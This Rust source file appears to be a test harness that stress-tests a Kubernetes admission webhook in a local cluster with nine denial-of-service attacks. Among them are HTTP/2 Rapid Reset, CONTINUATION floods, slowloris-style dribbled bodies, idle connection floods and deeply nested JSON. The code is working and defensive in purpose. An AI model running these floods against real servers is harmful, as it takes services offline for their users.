//! What clients do to a webhook that means it no good. Each attack goes at a stated rate: attackers and
//! the server share the machine, and what the attackers' own CPU costs others is no fault of the server.

use crate::frames::{END_HEADERS, Kind, frame, header, post, preface, reset_request};
use anyhow::{Context, Result, bail};
use rustls::ClientConfig;
use rustls::pki_types::ServerName;
use std::collections::VecDeque;
use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::time::Duration;
use test_cluster::WEBHOOK_NAME;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;
use tokio::time::{MissedTickBehavior, interval, timeout};
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;

/// A way to misbehave.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// 10,000 connections that say nothing, opened again where they are closed.
    Idle,
    /// Bytes that are no TLS.
    Garbage,
    /// A ClientHello, and then nothing.
    Handshake,
    /// A body that comes a byte a second.
    Dribble,
    /// Requests that are reset at once, in HTTP/2 (CVE-2023-44487).
    RapidReset,
    /// Headers that never end, in HTTP/2.
    Continuation,
    /// 100 KiB of headers, in HTTP/1 and in HTTP/2 in turn.
    Headers,
    /// Reviews of 7 MiB, more at once than there is memory for.
    Bodies,
    /// Reviews that nest 100,000 deep.
    Deep,
}

impl Attack {
    /// All of them.
    pub const ALL: [Self; 9] = [
        Self::Idle,
        Self::Garbage,
        Self::Handshake,
        Self::Dribble,
        Self::RapidReset,
        Self::Continuation,
        Self::Headers,
        Self::Bodies,
        Self::Deep,
    ];

    /// Its name on the command line and in the table.
    pub fn name(self) -> &'static str {
        match self {
            Self::Idle => "idle",
            Self::Garbage => "garbage",
            Self::Handshake => "handshake",
            Self::Dribble => "dribble",
            Self::RapidReset => "rapid-reset",
            Self::Continuation => "continuation",
            Self::Headers => "headers",
            Self::Bodies => "bodies",
            Self::Deep => "deep",
        }
    }

    /// What it does, with its rate.
    pub fn describe(self) -> &'static str {
        match self {
            Self::Idle => {
                "10,000 idle connections, opened at up to 2,000 a second, then again at 200 a second"
            }
            Self::Garbage => "100 connections a second with 4 KiB that are no TLS",
            Self::Handshake => "50 handshakes a second that stop after the ClientHello",
            Self::Dribble => "400 requests at once whose bodies come a byte a second",
            Self::RapidReset => "10 connections a second with 1,000 requests each, reset at once",
            Self::Continuation => "10 connections a second with headers that go on for up to 4 MiB",
            Self::Headers => {
                "20 requests a second with 100 KiB of headers, HTTP/1 and HTTP/2 in turn"
            }
            Self::Bodies => "16 clients at once that send reviews of 7 MiB, together 10 a second",
            Self::Deep => "10 reviews a second that nest 100,000 deep",
        }
    }

    /// By its name.
    pub fn parse(name: &str) -> Result<Self> {
        let attack = Self::ALL.into_iter().find(|attack| attack.name() == name);
        attack
            .with_context(|| format!("found the attack {name:?}, expected one of {:?}", Self::ALL))
    }

    fn per_second(self) -> u32 {
        match self {
            Self::Idle => 200,
            Self::Garbage | Self::Dribble => 100,
            Self::Handshake => 50,
            Self::Headers => 20,
            Self::RapidReset | Self::Continuation | Self::Bodies | Self::Deep => 10,
        }
    }

    /// How many at once.
    fn at_once(self) -> usize {
        match self {
            Self::Idle => 10_000,
            Self::Handshake | Self::Dribble => 400,
            Self::Bodies => 16,
            _ => 64,
        }
    }
}

/// Who is attacked, and from where.
#[derive(Clone)]
pub struct Target {
    /// The webhook's address.
    pub server: SocketAddr,
    /// Of the attackers.
    pub from: IpAddr,
    /// TLS that trusts the webhook's CA, without ALPN.
    pub tls: ClientConfig,
}

impl Target {
    async fn tcp(&self) -> Result<TcpStream> {
        let socket = TcpSocket::new_v4()?;
        socket.bind((self.from, 0).into())?;
        Ok(timeout(PATIENCE, socket.connect(self.server)).await??)
    }

    async fn connect(&self, protocol: &[u8]) -> Result<TlsStream<TcpStream>> {
        let mut tls = self.tls.clone();
        tls.alpn_protocols = vec![protocol.to_vec()];
        let connector = TlsConnector::from(Arc::new(tls));
        let name = ServerName::try_from(WEBHOOK_NAME)?;
        Ok(timeout(PATIENCE, connector.connect(name, self.tcp().await?)).await??)
    }
}

/// For whatever the server does or does not answer.
const PATIENCE: Duration = Duration::from_secs(30);

/// Attacks until it is dropped. Returns how many connections have ended, as they were meant to or not.
pub async fn run(attack: Attack, target: &Target) -> Result<()> {
    if attack == Attack::Idle {
        return idle(target, attack.at_once(), attack.per_second()).await;
    }
    let mut due = interval(Duration::from_secs(1) / attack.per_second());
    due.set_missed_tick_behavior(MissedTickBehavior::Delay);
    let mut running = JoinSet::new();
    for nth in 0_usize.. {
        due.tick().await;
        while running.try_join_next().is_some() {}
        if running.len() >= attack.at_once() {
            running.join_next().await;
        }
        let target = target.clone();
        // Whatever comes of it: the honest clients say whether the server is well.
        running.spawn(async move {
            let _ = timeout(PATIENCE, once(attack, nth, &target)).await;
        });
    }
    Ok(())
}

/// Opens so many connections, and then closes one and opens another one again and again: the server has
/// closed nearly all of them.
async fn idle(target: &Target, at_once: usize, per_second: u32) -> Result<()> {
    let mut open = VecDeque::new();
    while open.len() < at_once {
        if let Ok(stream) = target.tcp().await {
            open.push_back(stream);
        }
        if open.len() % 100 == 0 {
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    }
    let mut due = interval(Duration::from_secs(1) / per_second);
    due.set_missed_tick_behavior(MissedTickBehavior::Delay);
    loop {
        due.tick().await;
        open.pop_front();
        if let Ok(stream) = target.tcp().await {
            open.push_back(stream);
        }
    }
}

async fn once(attack: Attack, nth: usize, target: &Target) -> Result<()> {
    match attack {
        Attack::Idle => bail!("idle connections are opened all at once"),
        Attack::Garbage => {
            let mut stream = target.tcp().await?;
            stream.write_all(&[0x5A; 4096]).await?;
            until_closed(stream).await
        }
        Attack::Handshake => {
            let mut stream = target.tcp().await?;
            let name = ServerName::try_from(WEBHOOK_NAME)?;
            let mut tls = rustls::ClientConnection::new(Arc::new(target.tls.clone()), name)?;
            let mut hello = vec![];
            tls.write_tls(&mut hello)?;
            stream.write_all(&hello).await?;
            until_closed(stream).await
        }
        Attack::Dribble => dribble(target).await,
        Attack::RapidReset => {
            let mut stream = target.connect(b"h2").await?;
            let mut bytes = preface();
            for nth in 0..1_000 {
                bytes.extend(reset_request(2 * nth + 1, "/mutate"));
            }
            stream.write_all(&bytes).await?;
            until_closed(stream).await
        }
        Attack::Continuation => continuation(target).await,
        Attack::Headers => headers(nth, target).await,
        Attack::Bodies => post_http1(target, &review_of(7 << 20)).await,
        Attack::Deep => post_http1(target, &deep(100_000)).await,
    }
}

/// Reads until the server closes.
async fn until_closed(mut stream: impl tokio::io::AsyncRead + Unpin) -> Result<()> {
    let mut bytes = vec![0; 4096];
    while stream.read(&mut bytes).await? > 0 {}
    Ok(())
}

async fn dribble(target: &Target) -> Result<()> {
    let mut stream = target.connect(b"http/1.1").await?;
    let head = "POST /mutate?timeout=30s HTTP/1.1\r\nhost: webhook\r\ncontent-length: 1000\r\n\r\n";
    stream.write_all(head.as_bytes()).await?;
    let (mut reader, mut writer) = tokio::io::split(stream);
    let send = async {
        for _ in 0..1_000 {
            writer.write_all(b" ").await?;
            writer.flush().await?;
            tokio::time::sleep(Duration::from_secs(1)).await;
        }
        anyhow::Ok(())
    };
    tokio::select! {
        sent = send => sent,
        closed = until_closed(&mut reader) => closed,
    }
}

async fn continuation(target: &Target) -> Result<()> {
    let mut stream = target.connect(b"h2").await?;
    let mut bytes = preface();
    bytes.extend(frame(Kind::Headers, 0, 1, &post("/mutate")));
    stream.write_all(&bytes).await?;
    let part = frame(Kind::Continuation, 0, 1, &header("x-more", &"x".repeat(16_000)));
    let (mut reader, mut writer) = tokio::io::split(stream);
    let send = async {
        for _ in 0..256 {
            writer.write_all(&part).await?;
        }
        anyhow::Ok(())
    };
    tokio::select! {
        sent = send => sent,
        closed = until_closed(&mut reader) => closed,
    }
}

async fn headers(nth: usize, target: &Target) -> Result<()> {
    if nth.is_multiple_of(2) {
        let mut stream = target.connect(b"http/1.1").await?;
        let mut head = "POST /mutate HTTP/1.1\r\nhost: webhook\r\n".to_owned();
        for nth in 0..50 {
            head.push_str(&format!("x-{nth}: {}\r\n", "x".repeat(2_048)));
        }
        head.push_str("content-length: 0\r\nconnection: close\r\n\r\n");
        stream.write_all(head.as_bytes()).await?;
        return until_closed(stream).await;
    }
    let mut stream = target.connect(b"h2").await?;
    let mut bytes = preface();
    bytes.extend(frame(Kind::Headers, 0, 1, &post("/mutate")));
    for nth in 0..7 {
        let flags = if nth == 6 { END_HEADERS } else { 0 };
        let part = header(&format!("x-{nth}"), &"x".repeat(14_600));
        bytes.extend(frame(Kind::Continuation, flags, 1, &part));
    }
    stream.write_all(&bytes).await?;
    let mut answer = vec![0; 4096];
    let _ = stream.read(&mut answer).await?;
    Ok(())
}

async fn post_http1(target: &Target, body: &[u8]) -> Result<()> {
    let mut stream = target.connect(b"http/1.1").await?;
    let head = format!(
        "POST /mutate HTTP/1.1\r\nhost: webhook\r\ncontent-type: application/json\r\nconnection: close\r\ncontent-length: {}\r\n\r\n",
        body.len()
    );
    stream.write_all(head.as_bytes()).await?;
    // A server that has refused need not read the rest.
    let _ = stream.write_all(body).await;
    until_closed(stream).await
}

/// A review of a ConfigMap that is too large, of about so many bytes.
fn review_of(bytes: usize) -> Vec<u8> {
    let head = r#"{"kind":"AdmissionReview","apiVersion":"admission.k8s.io/v1","request":{"uid":"u-1","kind":{"group":"split.smi-spec.io","version":"v1alpha2","kind":"TrafficSplit"},"operation":"CREATE","object":{"metadata":{"annotations":{"a":""#;
    let mut body = head.as_bytes().to_vec();
    body.resize(bytes, b'x');
    body.extend(br#""}}}}}"#);
    body
}

/// A review that holds arrays within each other.
fn deep(levels: usize) -> Vec<u8> {
    let head = r#"{"kind":"AdmissionReview","apiVersion":"admission.k8s.io/v1","request":{"uid":"u-1","object":"#;
    let mut body = head.as_bytes().to_vec();
    body.extend(std::iter::repeat_n(b'[', levels));
    body.extend(std::iter::repeat_n(b']', levels));
    body.extend(b"}}");
    body
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_attack_is_known_by_its_name() {
        for attack in Attack::ALL {
            assert_eq!(Attack::parse(attack.name()).unwrap(), attack);
        }
        assert!(Attack::parse("nothing").is_err());
    }

    #[test]
    fn the_reviews_are_json_of_the_size_and_depth_that_they_claim() {
        let review = review_of(7 << 20);
        assert!(review.len() >= 7 << 20 && review.len() < (7 << 20) + 100);
        assert!(serde_json::from_slice::<serde_json::Value>(&review).is_ok());
        let deep = deep(100_000);
        let depth = deep.iter().filter(|byte| **byte == b'[').count();
        assert_eq!(depth, 100_000);
        assert!(serde_json::from_slice::<serde_json::Value>(&deep).is_err(), "serde's own bound");
    }
}
